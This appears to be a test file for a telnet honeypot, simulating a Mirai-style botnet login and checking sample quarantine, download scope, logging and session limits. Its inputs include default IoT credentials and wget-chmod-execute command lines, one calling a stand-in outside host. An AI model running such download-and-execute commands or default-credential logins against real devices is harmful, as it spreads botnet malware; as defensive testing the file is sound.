import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Honeypot } from '../../src/honeypot/honeypot.js';
import { startTelnet } from '../../src/honeypot/services/telnet.js';
import { EveLog } from '../../src/honeypot/eve.js';
import { openSqlite } from '../../src/store/index.js';
import { InstanceStore } from '../../src/honeypot/store.js';
import { LineClient, fileServer, tempDir } from './helpers.js';
import { existsSync } from 'node:fs';

test('telnet: login, Mirai-style sequence, download in scope, instance stored and logged', async () => {
  const files = await fileServer({ '/bins/mirai.x86': Buffer.from('\x7fELF-fake-sample') });
  const eve = new EveLog(null);
  const db = openSqlite(':memory:');
  const samples: string[] = [];
  const hp = new Honeypot({
    quarantineDir: tempDir('q'),
    scope: [`127.0.0.1/32:${files.port}`],
    instances: new InstanceStore(db),
    eve,
    onSample: (s) => void samples.push(s.sha256),
  });
  const svc = await startTelnet(hp, 0, '127.0.0.1');
  const c = await LineClient.open(svc.port());
  try {
    await c.until('login: ');
    c.send('root');
    await c.until('Password: ');
    c.send('wrong');
    await c.until('Login incorrect');
    await c.until('login: ');
    c.send('root');
    await c.until('Password: ');
    c.send('xc3511');
    await c.until('# ');
    c.send('enable');
    await c.until('# ');
    c.send('/bin/busybox ECCHI');
    assert.match(await c.until('# '), /ECCHI: applet not found/);
    c.send(`cd /tmp; wget http://127.0.0.1:${files.port}/bins/mirai.x86 -O m; chmod +x m; ./m telnet.x86`);
    await c.until('# ');
    c.send('wget http://198.51.100.7/x.sh');
    assert.match(await c.until('# '), /Connection refused/);
    c.send('exit');
    await new Promise((r) => c.socket.once('close', r));
  } finally {
    c.close();
    await svc.close();
    await files.close();
  }
  assert.deepEqual(files.hits, ['/bins/mirai.x86']);
  assert.equal(samples.length, 1);
  const rows = hp.store!.list();
  assert.equal(rows.length, 1);
  const r = rows[0];
  assert.equal(r.service, 'telnet');
  assert.equal(r.peerIp, '127.0.0.1');
  assert.deepEqual(
    r.credentials.map((x) => [x.user, x.password, x.accepted]),
    [
      ['root', 'wrong', false],
      ['root', 'xc3511', true],
    ],
  );
  assert.equal(r.downloads[0].status, 'fetched');
  assert.equal(r.downloads[1].status, 'out-of-scope');
  assert.ok(r.samples[0].executed);
  assert.ok(existsSync(r.samples[0].quarantine));
  const actions = eve.events.map((e) => (e.honeypot as { action: string }).action);
  assert.deepEqual(
    actions.filter((a) => a !== 'command'),
    ['session_start', 'login', 'login', 'sample', 'download', 'execute', 'download', 'session_end'],
  );
  assert.ok(eve.events.every((e) => e.event_type === 'honeypot'));
});

test('telnet: per-peer session limit refuses further sessions', async () => {
  const hp = new Honeypot({ quarantineDir: tempDir('q'), limits: { maxSessionsPerPeer: 2 } });
  const svc = await startTelnet(hp, 0, '127.0.0.1');
  const clients: LineClient[] = [];
  try {
    for (let i = 0; i < 2; i++) {
      const c = await LineClient.open(svc.port());
      await c.until('login: ');
      clients.push(c);
    }
    const third = await LineClient.open(svc.port());
    clients.push(third);
    await assert.rejects(third.until('login: ', 2000), /closed/);
    assert.equal(hp.counters.refused, 1);
  } finally {
    for (const c of clients) c.close();
    await svc.close();
  }
});
